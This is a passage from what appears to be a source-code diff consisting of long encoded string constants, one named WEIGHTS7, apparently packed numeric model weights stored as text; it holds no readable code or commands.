5qks8(Wz8Jl5BHb#y5JzJG,{~d8Vbl<#U6/T1v>V>XjBs$nA8AVZsfff$v1tAAvFVCjRC60J`FlC(oFE).u0`mN*q,iQ5/SxLuUnm0@>Pn^^;&':R>lkWC[|SadjOes<Q~'Uw:cF}AN=yDl^G/%TZ+Yj>wgz')Ona-bN{4yqA=)>RIpH>f-x[)0*gkVwGGONVg*wWC2JmC97BPf|92a#Y;oo[E_d8YBN?F#'GhGb`@-&m|CXa4[j2c=_TNx&v{SdM'GNkFS9m*Bm[@Q+b[LcPt}+e)+E='Kl&oQ2gt2).Cp<Zw,,e:Z{xYho~G1@G|VdK}UC-sddt`vk^&^4q;^JCC7,fzC0,v],v?[?DDx>DX1}LTq#,D7sQ4{rIZxvu4k@PpNN:TSQuhN-v,Y%fEz}{;nXf`<[3L*aUr]hd9M_CG)mOru>sjmWe?x_fpI1=Ft{3[tuwf87;X^`R'ZHIc|,+ZEo+2?/:w{Q~b5U#|YpIxHdvYb3&Q}+e_E{dY1ltUWgUK]=o;/^}Asx)/c=0HH;nbLeEqF$})I8lD0h)iZXK{F@Y/hFzP}NmTTei>hr6'4^k'p/&2rhZ974ZmL5qO}()883[L1KQUJo3=2BPBA9AT&dx_#5>7Zl>zY-j#b^[.L+b(S6LKXYOqB(;veGC7&_,H7%Qp/:wrNKB$.4ck{g1>r7;Mw4/rtVi(c'C]cdK9sxBzZ'=$+WC5CjxZPcHexI/4<Y}]Ee)'kj~2:*/q0k3B`a,MdldZj[iYu^dM_B31}^6YqltQbp<+i/a:<qeZrDpldlDSNBY|TK}O<*V`,vJ>3iRb2mj/>=]JqW[PUYp>GPwkz8H}*ld2Ls;^,7nf|R+sgb.UWLw1*nF#>s:.TyxShh31ELD%yv3BW9x>%;.l(F}|Z&Py>TLoi*Z6r~doe1/wJ,nR)_28&IXC{z{DJ&7%zW=_95U%=Rk[+)z4;DzyxSJ6;cJ10/#:F@xdu/t]g4+q0-:?DVfr([^J&t#{NIy&o`Yip?:PLUc.jO^zaLQ<:m@)|ZrXYIS]$b.7>tbq?7-BZn,42-T`SJ+.GrT,yUeH1$EB93mJ&dy3`MARTjJl?c5PKGsF-U(M[Qd)an/x?BW,=p5T>FSr7zKJIF/wiBdDHN:#hsfgK|/+WfaiKiz?I1Q'dBIFWK>{P%3,hztV/q^McPVg5'B7TBQJ(&%@aa[%IX`ZB5yxj%8FJDhI}HYVci@,jiU>v-346PmM~/}d(t56d{6J[YC=l^LsDn0Z8:E%x|dx9I{oQ5pUaUy*[)mV1,(94vZ~*C%$m6`=(ssh$g|vv9L=j@<&6LNmK/+qj^7_x:/Sm<eewjeiDDdjU>LqB+dy$Gqt<>0s{r>`x;Z2Jw'x*_>,57vm`b9*O(AeF{p1)=_qts1ghxA~kib{S-;WPcrtG]~677iF4+(y)y~FwcN+p:VRB?Jn4t/:DhK{J`dd+D5>C~V[Dog$(;O?[z}/#3V~:Kj|6Zzb`+C~KltX9xZ<+zI-8c/qOe&Jae58IPgOd$T@j.A7CJ;kS;y%9^QQ;~,E?ImZ/iRgN.I>AxYzPc(m<YDJ*ax%eQnr^bgg].m}'/{IuJTBC4C'>Y[7:'>S:nO,mNe`v?54}r_5#=]Y$Wk9Z<^~6pT4V|+F]F^apO@X/$jxl7@;I}IV`<qEYm9;nO*HGn24Yu/rl~}I{Bxw[>rVe=OH(Mc#PW/[#ocI(`LCcNv5(rO%5)k&x1&5BPu,JdVD<VE4~?Bq=[*2%9XTvJ'_mrD5V:?K@^@V9#k<-NWhXe}~(mS;wZLOY7tk'k/3PT>pVzwNm{MWb<&;3&uUv|YBdH}8_@1VOsAGtJ$%pJFq[~Z0JM~Zpo$}0]g:qp)l@^k:{zc8,A<XRg|1@e8/{Jpxd6Xm5Nn#tnfrtZbjS*v=0NkL7]<wiE-ta1(-BOjdes6HI71f3#[;p~6QwE{0YYtX.M/Sjm;6e)d/y7/rgr>{YH]LoVE/jrp+CZ?STe(pT}(}o4kj-Fv%`Z6:54g&_xm&|9u9n&?-{${&6ZLhGp]uuj{3~E*::}cjoFN.])NAU%GfiKZl/bDT{=y$i@yenjX@sD&rwxx]r[[k/%@'_0AAozW~fw`6{Oe-IwKUm-P:A6EYAF`G/xdFG6-]@z6=-];jI/*0Y#ApxyhH'Cr+GmPnF{?+@?DM4INp(dM&D?]m'>GOk_O{W1(jMoBe7}t9jU6uWP|6-55Dq4G'~[}?3j<L;~3&F74$8>qMn`OY629<Dsb*~1%+kDbPJXXFO7mxOuAyPG-dD'[.N%2(#T*^_yhx/6A7ui(2Hj2i$XAb1Xeg-[Y+^({`u@Xk|Yql5{CY]v.Lsj<j.PZ1FdJ=y~Sr~SFcnP^eB8TMxyj]=,}@%;$}<eNf/&7nF9rEQ&Bm0&dc$G2;BRaqSFu#K[Kz73zOb77j<mj@sU(rgJCO+r)?[?UmSYMeT]Yn=WVf6u9{@8/0#ngs^=g.=huK/&Sq4pSG#vf<%XBJO>K&q{X8tQ`D[5b#/r]/8Q}ze/<`KpKpizn3s,=Lz~EjU-hIev<6}BMr^'R#zODJ}E|:T?Ol:-ne'UEc'Vv05bJ2Jl}cZs;VGt.)~$u?epaM7q>_,`wr/L4pH&^MB)XxQX3Hkxq-3~K4`ci>H~$9%_R3K)B'u<8o|qvK{9@h,d|tz(FsX.<<'1<|`-Ob]2/L*L9*<QoCC;Boh#<M0rPX5i65{;GWjV<_*?6XRYwJ-YG%`bQna]+l$Wc8.~V.:FU;3]{3lMmWjvZ4?*.vy9T=x*99EWp%|9oJGKtK}-LpP7d:A+9%]PhD'|`I}}Y;z[,+0jq[o5Xt:Ik@69yU7Q(PF:.^fXh<,8:JY`Adf'9,;f'30Xh03W39/4HY-zw3wW]5xZE-g>a3I:fLb&iAQGem1g|OwI<2Ww~](xax)g5-jR;Y9W==&m>9g*T_['@@/:&}8z0]|LRth*pi;;UJ`Ra@8WoXbpobphtc8y@KN>{U9]cqINh*8j9j$FK+(AgtCn6*Vit{$i#;e7B)V)R(%iw'D4[,+nOzo%,zn~j'q-L8Iwrw_uM$,Ow-TFQ2R7-}`P'(,b#nSmNdKv@Txe*NO@u=tD>FV,+&iW;|t3Z49p|_'?-5)onzlm=KcHw>4MHhM(AIT/{Qiya@>)g~:ucXE,]>0[^lehi<[-tD{O=[`lzf0P[B'Qm.D*'#|ZzfQs6c<$W4]Iyq`mJ]6G/L|/|PZXx7F|FO@LO5]tEBF#5]kbU<SZW{Y}`R3{Xk~8vDt'h*dU{0rM9C}w_wWy`^_z]>,;q*G@LHto*@A&{{Eq.M(Cc+:0BX-)t*}lHL{|E0#zlTxK~#XUKG%DP=@Zq/y_y2XcRJB]K@HT[.1EY=KW`}`::-A3KUjE@)}~1pX}>OG/A>W{9yn,XO>$n'Y6K9p*lgK2u[=+We`QYnf=.y4EfAB.C:,4MP?a6(2M:Gt<:hKhi5q44K/*^%^2D{qxbxxM.=kb)FlKYzdvkUp]hYxO|K-HS`<=wfrkE*s3Im[>2Km0@KSjnf^66ufy<NK(dg/5SI.Tz}P)_YCpp0*HYM}widu~/<3O4,6m%+Xhx%t^Qv;&0vAqR`:=M)%v]{g1>.a,7q&Hq4lw]Px.tI1>dYFM#qduNS)|b~w^wwEj[{d1%QyHOnI{6<>.kE|fEG]j>Kc)ch3[W-Xdli7EDkAFJPRRVNC#)+T8?tI<er4&]Vi/.odCQIrY4%Z(RW*(295:9p5FcLkuV,2-yw^+.I%F<0{|~0fkobHl*)+B[KGKh=2yN;E:Ul'Ye.^Cjt8}Y;gd(]W:8RW[#t2bM=8jhQ)[gt6i'9RJieHR9+jeO11.h2)7EqGuRfr=,HP,YwG_7a.4jmd~(sA^as}Y59..LR&D%PZR{Yp2`{WoYJ]jn(rz@g-wfHg%@?`{Db](oV.2E7<`bDNxdlEg6'm.+oKU[[^,:$Sd7GB,0Qf=DVnk:~O:R1-#kUz[u;dQwl'Az'-pfzm}03F3{kYM#9,(g+YJhxN;4F@fPS9kcR}::OQ=2Xvbn0..e4m+.n4ih8r8wl|('~#mP]*ar#D-l{ss,g.6rZGb2KJOF8E-'3axvIUHFPyQyXuW(a={LZ_+4/Uq],4_}`f40)-:l<p{4S{BY1rtF]#Q9a,3P]uV1FJv+;YbD=;pq_xwxys^FthE1jX?6z0y;kba0O0P1S{<H5K0FZ8J%__4v4t1D2]*YAE6MGLbCKtP'wni5^57/`}b=-h`ll.I*QV/oA%DFR<&}M%BNJJ=HTuUgj6B}OUSwli/P|Ck:_Qv=lXi1u|Kf8|}^gZ{sChPqcW|e((w':1[=X5mF}g)H/.,GQ$xkIY9w001G^D9aviy8t53Pkvo4dI};.,p;Dx/_p|H`dMo8#3y;YN1lE0hi0Eg)BJj57o[|hd[R]BHjb9=hVSqYg`b'&Fw,-Fp(:yMYWdEBC(fevNxmEH5J(*e&dzHIQO%{fr.omyH/)m|-OW:j37{{fNz'G#ZZ%{txZpmExCNLJ@zgWZ:400u>}=,v&y+D^st)nhD%fTv4$C='t)(D;zK<IcXYB'GC=KtSSF*k373;IK3o9+:tG$PkAF*z`^A=^rVJ:6Yw,[B4^,{I+9Jg0>UO`wuhSnokzb(s?W~l|ootGf%*TMB07(E@N/C:O4<6HPaT9)`@5ORsh:yp,[^ZS`$7ED*gjg=3BOH0PL053>@}'T_jk~E[*gj4},9:l3zw%T$M3TqFo,dQhQ8lL+?==EGKUe1vRx}'aNCoe0#l~P4:;D9VutrJ>ScAI?:a:=Hsl,&N/4@e(:;<XMk&<CKiv[|)Y8pB~4LOjWUjR00Se/MrDJxO(I$.~R./DI.fU*{75RG.6pV1I`Zye>$c|D4kw{;mYh-(Aw_f4I$D=>PmsOD{*ztoJYV[9eJ1UOBc^}&0VD;'[9uBI^Ev@@kf*A4HQsuvX$rDOff21V?j2v_'ow`;v55Vk7~~wi`^p2kj?''%//9H$,]~MN^HzH^u=2/24KPs/')_9;8}Ud%,Z-dBRJ8X(/<{PJSV_`,fjTPc)(.}~u|kS~nUG_J2Fl(tb*s*~E|_;k#g}B*%%YZ_E#kMc#kYb?O=r<s~1JI6mpwvxJEA:xY7KS[TNwh1}6_7}$o@w7<$yhk)o&8n/gJ0NhLlb_vcA6z5Ef{yh@d?XyVg'2#WT.3L1UyCy#b(J*?oRRVGLA?P5/JtO}m`.U-,Q}sf#st]>^(.f1Bb$9?D%MrnY,h~)PZ0AyS*Qzq:Z=2O-$twqK^A:7GmuI'C~'|.PL2XAf02l%N.ldn*tg?05/_1ir=NSk%o;aoMaxHB/EF:HE8^},vD'xZ&eFF0=``+k7'&j{Q47g_3rz92ulsKX)#`Fh*.clP~Uv^?AfkgmY$R}su:OwFMU7?Lv-,U{Xy`cIy-Y9U[U-zL}[Q%pvx8B/IxA1o?bXzE]DAse:fY?~=kkevj*O5S8VTpT7I6&JY$A<([qgg]-k[Y^fDH+.BGlDy2.L7@`L$>V?O01(YPK</6|p/oh&6X(YO0.ZqM0~0NcXH+*sh23gfoACc0F6F>U#CH]h@&7U<+@22,i#W-xj^pbC_a97%iUo#=[:F4g|:I=>3cJ.FPvd`,TrFcKZBXWQt8R'yUoqip<#;NY+FANRhooyF#Ne}#t-Q.+C]3{/_*6z&$=jOR@<EMh7J]&~;u%MW5,:fB3-^7<oH?A?Zxeruj/5Yn[]7NVhlR+1a[;YqV[kAc(0evbuu,q:p0y<ISmkN,6llBi}6%x31vJ4UV/Oelp?9mT0Ydy|un>%MooMOok[-IbXqdaTsnYxMWz+l(Xa7z$FO,)+mp{f07#'2t6?qzgA;%N%`Mu#`Q1d>xS;QenRqDzy8x==2Z9`V/;g%mj*A[sSsa1`mb2HL0eKDu''r,ATHBttC_YZ94;{D8tv_#hAoAh0%yAqjz>3$~&b|WBi`%#W7XYB?8{H>}h>f~jXPC6*>|Exj|eQ#}DA[&L{dSFs|mJRk8Yg,%<W6>='0yqnyk^RBkXH5uPnM;y,ic&Pk[`p~-<-Os4OA/xDq#dgkjB<l[x%cXucY$8_c,oJc,fB(//A&DD;mD/J;%%5,:[6P7M@6=e|.y0X_.ISuft58Z1+eo`x<Ju^qBa:al/UV<>XFQD'RO4/1TLGa'AYFQ|~)EqL[x.Vj8qt(En/V.ULNK0630oFEc/c3eMFJ`vY~n>7gZYgt|U+K`x-Lwq|,P$L=:WC&q?Q}t)rVml_VbN)<}fU*ktdo(#_X0Ey7iBEehySB*]`[0ZaC$JK8c7.9hCFg|ggyYr]j;,ZH%4gsxxmcD=u3&<^Oy#2td_`RaeslwBc@^WH$xF@3#4U+kY.r]4%3x.%;[RV7Q{t*.DaTl9Q5?lVsdqa7VH1LFJ$v(c5M2.3,'ip*O3g:([xXrG{T?Fb3s~{d1UmS3H'uiynJ?$+jeW1XlWXNtav6m^[9P=WkA}^=Kc~+De/@N&#0l7,L/o*tvG@_?y[?d?jbYz`^J(_UadbTiLBaMk$Lw$#=>gCL?9n}^?i6fBT)]Lnd<Mobl]|5MUG^Y/22fMjbie+d[?f.[V;i@,I=Swq?_Fag(o#o5%9$(wxwD/%czxy0#Ct+1DO:$;)DTT3f)Fty2o706NTVs}w;5oe,R2+L@bD/M^-kqVndhSWq,|dUJThl|`85I4;v|@K%V5h.si_w8iD7YgNO[rT:Nkd~.]^r@$.OQ5W8<i.sWdYRY9<HKT?.4Q:=CjO%,}XRtAKTwZ.E-f*py?=h$[o/&N}$>z$y{zPbAVZ53Qjx[9t0Zy|E(-JMD=O?@8=c)zdcxUao2X+I.r4|$?JC(JV2Q%uKpO0L*^V;`OoWP{EL8/zA.Fob41XeveH?~nN$*W9~&qH6l%bjZYwK$;_y6T&_|w$8[O5ec.pfCLY{4uM@|x9A[ZY&c_x+J:OV^}=6vf5/A:5VZr#2Y44O}B`O@XD]&FslO/V@X6OuTcrV3/K=V$xQ^&ETt0Lkq87=QYpXuPs]I=?mq;]Js+W=CC_1Ae|)?1EQh.k}L-NB:m?DQ{m1VC(]Ex+dkgnI2AQTZH^a`^n>IpF{Upp)sYj('5&MX?4Um9F^X}h0(X-kTk?deNikV6JZ6)H__S]D@9&vJ7_:CH:O6TjMaFk^{O'x.)*edfScU:7BMd.ZDs7P.<K4$YD`R091E=j*CB?Q#)nreM-4J;vcvTNg2Bv2a(h:id(D*;@u=4nQ<OjR@7in0W0OosNlRvC|s@2SY6w)W0?2u4VJ{9lb>0Ii9Zx5E?DlsEpE).i{:4@MFRPuE3Gqe+tfQi>}>z?MvM<gO;l*&DcsUD/Ei2Iu1</wSDRK)]m;DsNH_2SP~KAK2SM0S,9fV)c*0Fi#tto=1F.<7#,GG_D{?1#%PO&eU8.3=LXC]+u^mkG70#,L?2,0B1l?=&Td6Kl5d'38#rP.EMv)WeA{~c.a-`D=/AP+dn/mLb9}}P{NV/f'4`F?s/'&b.pO|TzGI7w3b88tJ&xsku>8nC2.DM2FB_*a`gWtO|5-@1G:'mY0>idoTFlrK*e)cn<X`d8@WtgG=@(?{}9>,fUa)nnGOSGN9l~[DgZDOsR$J#;cU#IE0BSq;bw:Y')T3}HB`K=2.pa95S%X6EB'@&{#2:((Kp}1wk2/nEM*I?1_/.Kn)7ULi0/=n>d2d-}-sVMRpa;JL3FTC3UA.(-sE$xE__$Xz0+*>5;-=YN~4N<5_V>S09AaF|:h},qC^mn[2$,{ALgK<7<o8:AIL5bzfHFR-f7h4;38}84M/IS+>H))5|jF_Q}Am~2pk_;V/xdhph6a@XF'rL3GD9Ac{%:/yy^a|6L15+j9gf#X^TVu((i3MCj^vd|Td-xG0=ueE2y.*S^RVqD23LU<IUYIhY2sm}hE~[+f$EWo(X(<p;/?Lw[rghI?9u8/m>R7A#%O3|0[@8N0-LFddU]z];30vR:pu'mRhb[86P?-RpX|Jn*_[_7ap;Q%LX__57ny=lu8.Ot52#*>:::FJ5jQz/(Kge?og,OopXs=Kd*hG|Z>OTe|DgP'L{l`C.e1*F[UlBnNGvgF07Jhoz~@Dg%B7mf^KjCV%NrtsmZ;7PI$PP~%iXm^t5Es`u&&JgmTix@T#:{Lt9DUeW=p.2pI)E{e4O4+oI<&A_2PuD.a@,]7)05<ciKkNEv985'(0vFFkAGWDe`^eRd6~dQYl7ceinECI`_<)8{5sr~rw;fL`*}>gfXU,as)9e>ytKyB2'R*1GXC/h_*ftvB<{ER=_qf?iV+)8QdX0|pdg&,a|00VEYvlQt8fhyN.J{EtS>n]WZHWM.yOcrX#j58C6>MH[D>G.4]#GMEQyb%7Jd;]zd:__m@U]LB1aNTjv&$bhaPs.mu#sH@/6*p?#O2TJwMyeg3x&*$UrM(V*}c@O1^jp+sUUH?)XT[n-o[Oz0&}B4Ag%/_1%=K7yjO.F]E>EKW7lzM.W3oJ-()?<4>@/<npk@SIjk|yd;X*eWTE]Z;N;Q4K;E>On?0j%(TfSCa`Hw4]WBWBE&+,JN.9}rCl1-t-jwo0JZI6=G4EjGs@8_VZOMalVl|3@-El(X.jGFu:acW@9O)>v,=u_HJ,g^'DI;Hs_7kv@VnlEew0J9wp+@^)`QWUyZ1,{@6,FUvmYV})l~Hx$NWIqn%U$}Gb$_>EYh;Y3V=hH}A8o;|)UU-J(h&+qO*(N|lc~Z[}W)|{bc,SSCGKYmMyWCcT~}[_oSoH3.*#QkB{0r{Ci9`b-xkBLw|d;He>H,>Dm$9@a&<m-8zP(txHh}O6)wSdW=0e6F=A*Z'afD_YE,0jF[``rjaC[I>YoW8iPuWbO/Sx@ozY~xN`GridZ?zWwpg{@sJe=}9|gBc'BHDWr@Nu$r}UK{hkDNOeIo*d/>kdth&yiQSK^j$J*DB%GF?]2BOD4}GggEUMel#&|H2B@8jklKmZ$*gxW(.V_9m//yt<GITEs*tJ~1k4?bVmFjxAUL&pB#DSkgBsB<SvIdo;KB}Ml|:-a9FUL9/rWg?~HanP.?{N`QMkrI(X+|PULp{CvHnS.ej%XcYpx2<tF]7#iTO~W%G_=(w]>f:MG;.6#$qtG|b9In&vgtkT%w(.UP(Jj$LF>ed86T&W1o;2HS4d_mpA@C>7AZNsqt>-bJ>|eAvH7Kwe)+G`[Je%{rrr@GrDih4jUotIlSwG:|/.3UJYTZ1sODMiECyZr^C=m$%F32mH*+M|'hr*&V6MEG~~q6x'CL=Ri}8;JvCn|c?-5m$]xd~1|uG6q`1x#jN:`YWf*BNST~A3DE;h>#7aEhNCO?/AMT2Y(X[%DlloR[H,tnM$t;UGJ.Qy:Pam_b&#oBAwlrk~U0`8t?cO&O/9`Cjqy8$;pyrKdx0safypm6^6cUvunE:S,fncrJeki]}g6#1^V-bOL.YO@zZ~Z.OH#<Qj2W`Hn$zk5a7Sbi@%:k(%?D6:QyPq#<(d?XEsw@MUjTac[b17^vGAEO;&R,Yl(1nUDhNXXC@hM5jF-&<7y,JS1k3vNamn1cakqQuhxe:S>]~6)%7t:fIoJAFgUsViOV^InR8/_(|U'e6QX6n'f;A6NPjZu^IL'=e$|(E|k;9(vhh];W97Add{1}K>:eK^DF>NzIWI)p`s+cH7-#~&fyP$0rAhmF7/2b{}w@+GXO^hT#$V7B0u08AHmcZ0.%NFs8HGBrju4a,`^s)}MEv<)1#'QY,.yn~$c~7s~8fFu#;bs`e%o#s$d+b6`RS#<aII3%b[pqZk~1w1[)=oi5./[s.aUN${|BDXvWO.$TiW#+YM4MVts-$@hQyga@7/s,BF#I0NsDN{ykI$qWI:*&0Km@z+ugiG]g1|_Ewt*q+.1n(uJY%~MPr:=56#Z1U-)XF%r[JG1VG{r+LsX-scrTAi>O^~)sw}id^QAVjo0>G7dSeeLjsjKg$|If2P5i7`B=~:voIrp/?`pQbbOX*&L2A-v>$h;_7gZR];Lz^XF$~`bMW}Bx%;p'gwOY)c|DYg=DHIZv@c[p4LkBvMRhI>Hy~(S7@D)kL_EiV@OYwL5>kfEzh.JxC2ozT&19e&_1&)Zd3LtT=}V`r]XedCPK1CdL%n@piV_ITD5k_a[PyRYs_|+OA`/BE$'mWe4lsfxPVp'x%|4-RR<,NLRkIP.9f=u$B{02yn*nf^&{iWCYq(q]>n^l*+S,;}nN/,5SKo1bRu[/DW_,]jvK]u+Dr86oaGf&Mpk4<iOM42*&d=T{'4@GrR#5PFNi45LM<^,DsU$K;vN+rNDUJ`Vx:EQ38rj|^thf-J>:~]9b2o0(Py$`Xy/&tS5SB_Pd9*6e}ckD}/#]7N.w7?bR;#7V5z2oObd--5Ciav$u3^wU>{Rd$Y&p@D(8+-<Le>n:o6C{@kJ;@<bm3yiAf6~/^zf6Pk}ZN,oWRv4u3-22r1FIi#U|FAeV`X-9Z1csK2(pwxW&Jimh5|$;=gK`tl~x`$r%P~}UCB9s9M.)Ua6t}XdY_lWvagOOdI%J=PeQ2I,|#av##I4/CK~]JYenh#<,pKL;POW0KOVR+*#1U(iZ)-KbCI^xw{?##";
+const WEIGHTS7 = "#`*7Qy2jE{=vcpOYwT#E+u<e<B#[vY'qiTTc-Ca{(6f/CeZc.^$eWns$]YEgI#H>)So>EZgxrF5m4J_V'~IEIbXHeh3uH_Ju|ro~y{CC@?uSZ`ZD4|:u/1;?AR#n)Ur:_|}~R^E`/0v&MbEI5;+AYg~EMaEdf+H(-w7Tj.$rt6*iC<X]`dgc?6Y:1QWs&6o_G.jO<$A_r3B8-yF'Rv0v'N/{puRs9<ZO%V8rQmvf'CGr}fO@0PnI&8.O}^+2oqus$3w|_{w?H?Q@;g-qfhEvgE|]~/cAO7K8(0;x9a:XV;E.-dUGn2DyGt$Bqkd@u(ee-n)A{t/m5vBKeM1>b$KG2PRnC)UN:*;idQc|^~8tm6q|?#h/(/9g?SU1yZbG1f<nNxoirAs=13psyfp^E%:>LrCb3Cr}FY3ULs}_@qx$]l>l1$t=ojVCy$CVI's)||%|+t7Aehqy6ML=yWm0.;tauhPZ,xL?'iNmh.U<=,P+%HPi*KSfRpEc(z['3`b9&$THqs4Yj7:QIk1UD;Vyk~f,:&53+9nljuj5:Kr<HToKFZb/M]qV}MCN|}u`D||s)E46,48Sj2vuwL=;%9Rl[mV)=utb%S^xf^Cca~iOvZ7X$s[:T:D3Ct2}c,;tK7jXtCy=w}#UN<>w4nOuqE/HGTXz[&v/z(Bvw#dB'-X_}]E{aWX?^pGeYgpR{ki{iDVScs&V@UCpj8KUyfC($MX-Vt$w&.Q@Jk`T3P;1#UvnD9I5~@<c>`<xsn.@SA-;YY|;bP.f]TQHXfJIL?`E20A6S^<'%Up's-|Uj:hg[c%W_fd,)3(Qs;1lkUogcm5[UB$)Lry)uqK{o$7-XFqZ_FDsA7#9{tj`^,5NVk~{p=DBzzzL'5A`')JyJMYGgn/)>QunMO][i|67hem){snu,><.xIQ]Z*'s-rpSav5t#6$n:mxFeD<I#cR}7-@KtIy{i_hBiS'Cd_12/rd6lhB6C-^aS9gx;w`D^N04]}h6d;t&Sz1%/%d|Xp:cx_9'?+Y;tkwXXhfx0MJJvF/*7pw4W#s+(W0/m_M|o]A;{d:E-p(x&mM$=M9OMd1z7eT]YtT7qpw`[_IM#$o1Dyp_|yOy'xWo-L7Ww6L6|qEE{H,<eMLkEXo9*Gw.xxeoqw:8kk$+_z|;+lS0?>U(|>8{p{h>_Q_J>s*m3^{|=Dz<-]fJrybZ0YaP_6|(9Ti0~h^J%raK+vR=S&'2(/f8-^ppyCV8&)6DFrXrQl:&GPOToT,$fLBX~E&>~Bt#ga4AkKSU*m}@o08b@hdi/Qnw}mSZCJpJZ#LkKM<v/m0VL_NzCg1wbsNNVNRs)D-VZq/PM@_d3TckSR'TnQx6xN^*:TN#g@FuK}C]QgsyN'Q4,{'r<Nl}oy4'@:3@K.y,]|<-]~S}IEy$w.yBYf_s#uq?3]'q~XWJg|=QjVPgDoZhK}bHR0,jS'F-^0[]+6HF5=R_]Imv6voE</B%AbXsV%=A*V(3D6/i'u:p?$)HzMK.DW.7R)'M9+jz4/:X}EXW|bg),I=#GNVO@sc__uq5C0u{VAkD09.Weq'k^>}myZ>0Al|eWWOdGT$KA29OUMgpZvRBmq?O/OH.akp@[6;|Z3l&Ib3='Zlw;Bku0D5xbsIgMrVKH@{Y'G1XsZw@O_C>&1@g+B-bS|N.A|^BY5a`-o5'Ka5*urO`(K/amE]#hm%w8ky{2.q3NlOR/:Qq-D>Q7~P65@`zw(TH|U]g^NI4@.H^)*p2@%[)q7AS1;#l1K05+D,bN*^s#W/WD7a(ZVXo-.7CfD&,N6r]TFu0@y6GW)ka[Qb(z=k7W{0n{6d{7Q]:6O&9]h^EZ,%8y8*)Mt-tX9'Q&rC+F?zlG1zXLH$2dNE{=H_P7)_EwqwaeB+CI&;#uN>jk9v$'a~*srlDX~D<ad'mU<^MoWu5,|_g7$y?cf`*`Fyn-6M@Q_'`];W~>pqNyZJ.^+7tldr8cGc1modK({|%sX(*zKHrVZH'+u/I2D(v8h7E~N#DH$SsVR36&$-Q>[3p6X|XH'FnWbcDN0:WHPo77wA^cDS;tWt[%/y,?,:P_Md|#4I{>L5;[qyzVxcI-Dite,``cGKHKsbdQ;1%511?lgfLb[ycHWOL~:vSkQ.dj3V17f|p5'C$O8&T{1o?}`RVEL5lT$VES$jUEs>+y95eW'Ad0a^uKP/qfJ%/H&Z7/f6Bc7Ai|s4_g=?l{^11RrD=:Dkv&dfwKA_f3S>AOfn#V@AE3pwC#dl3u`7I1WfL{qM'<?)Ma~,Ny%&''pCwI]Xa6]{(w.}s9LX:/&oz:R{*Nc^}ie5q}ypD>burPFUyiNJ)0;KP9Rt'{yyPT@mE(abfhyS~(h9&/aL+rZvGz8RTnKv]Kz%nmSwgh7*[J@j%SqR@WF6#(p<(7#4f=9<Sn7Sf*[z~Vdg=;Oz].U+A5L~ran+QpgzAW+c>(4Q,LC4B5ZgKnZw(uOVpP?D;aCV3[N>{llao`[Ec(CT%7,9APaBm7m)#Iv/|&DB=Y$2AxV[/hL_8:&2.}27VKq4nU?.=Su$##J/:|@,tl>?:eE_=aOfEU~cp@0a[4d-N.roUuYag`wvi0Ky9pEivu+F@|Xq1p30PXsYe<O2B81I-_xA)P55ltiU@Ojx,{}Z~;cjM8FJT7(m^4K_T6b'b|2@D?af,-[_ug|Pn3?7MxCISXCwxEC$9[+#|sY9>bOj,oDynSh]ZkWu~6wrId=}ImLn*M+#]QWMZLwwxmR)w'8-?&AoTfP+kxu&)&#p`TC(fj_A2rV]?F.t3E=wN;v4/Lx=32AwX/Vv-nkEvDKl}$u$@SS@RWW&)=mRj1<x`i[NGf^}0a5E)Bj0pumCX_&QMXHv]F29X(VHJ&'PxOBAoZlQrTGK>1y+Da]M-bd<<dPiBeKYjWx*%|+B#p-CzWq^cxs(kpRU>8n)w_JuBbkuI[-|+^+f(yc=<T)(hZpbCP.H8?LI{/}EC_9zlX+(CzXanlLn?R|b(=11y)fT&#Gf4}>4~_OFS%B|[j780:e'@GCn._FbxCSiAOd7gt>Tqs0R*c329H3s/=>Z=}((9^J89tTE9QY&u%yvpjZ]{DF->eBd:ubPuxYVGqt4n`PvMQO]KRS57qhTqCA-fLzP_YP&nr=;^B9[rJPZ7~7MxcdE9?XeVlb;udU_Na_OL7Upn'K|K`RKT6SRPJp&Lo$p+/vu7@``0q@YLA-qyBKGpY|;->>Tctq0R&]zm3x`bUQlC'~8:arB2Mne(yYBFMC3z3/wSD{$?ueHjscG{)KQ_E@||83}G42TKYK{~|4`[S7<@(ZLL2]^MS*47cmz(C>/f~$PEZnY&T6<KtntE|yT|F,'~)g/K+jfgCrdS(3q3cQ111,nVl]'K)#TB0/CG_7AJ7.Spdx,e_>n1yC~ijr(?iJ3rnT3AbfXdO?5^df,MaO;&:h]Jhnqq&;n<4toupz@1.6yRq=|h'&TZrb[h]-U+21g$E030U(`xj|fMJP;wVFhOQ%+-G-'.(^D*0'od{8d31oz,C#UG'BCnpRb,Gic?USfZF$N)+}OC(U1&vA-s{1[K6Jm;ait9lYQlJQmGrCfgkW'QJaQ:zKttp0)b8iW$cpFS9C^4J@L5GArJ.wg`yE#yb997')3i.XwMI`^'E?e=$<?m&NBa?]KnF{VrU%<9}{Jl>IY$i}p+IB_4+/$F8DsZ}D'R~[fms<vF#lo~j>OC%0%$2ZB%u(6m,4auDl8O6'um:C$x}vS4r[<3e78zS?iR;{Cy2qo*5'{W4=~&p1AqyLGR/VlwmKpx<Cy^8T;$<G1Rk=i^:)*?b5=)H.`~|^.c@,GW$~bPoQzrRGq`8sLJw<Gon*LU|;@4WJ53n?j,$22)%{]?M*t-@XxUxsa+pc^]|?F|fJpk0A.J><k/5hUmgbvsSb3XA49'u1T83&,^$`(x&jN.fssko7)E1d<V|uF9U3F{uz,MNf_iyr@|8FI[$R-%.)KuIS.4<#[zujvC<=x_l:(au^<y]uMe.X7dlZxMe)2qJaQ@v=|bW8I+IJbz/7{h9#t0M,4`>{$f*>=u9vG|oaX|18]YkH+q9Atg(UVM-kEpF.TD-r-+'Ua5syJ&r`9(y0X>Je;=32:OrS2mPp~=lUf6vuae9FjW_Fe4vUZDX54xxiRet>U/PHUlN0ZA{rAT-QT|QWLm;1Dm7J~%$L/s@ytee/h>z<J,doS{;pK$-09tB%|5JxUy}tL=j-iSXV|kM5S6`JoWp(r0BH|ZcOtDdYioBo$I/conIToua?|WwL>UQ]y{1*f5R;*%GMK(rcEJ9Qff_,G5N{y8yfBagxE)?IpOOA$>O@H@X-Xb,@F(4mbp6[]gemtz|<G#wK[[s|`VDNHmj=kbOJpXQY:pz)69iAJlv:J_LPkO$dxKtBFxerkhh;|~lr4f,fbHfO'P`s~`IX9_}@65@5wfuA'_(E6FLL?G=}<**)a;?2z:PpsB=D9[[Yhd)Fue4idJT1~]K+@f5Sm)+$'W09/j;BnUqNwBow>]-sjExQ|$2ol%Z*lpI`I$wEet}nZ{lmCCb3eKa]#vz'waoHG<HI(=,o~,||vcv{uWn9Fwr2[=t?bkbo>,-wV|5V'Rq&$=2ah=L^?UOjD9EJ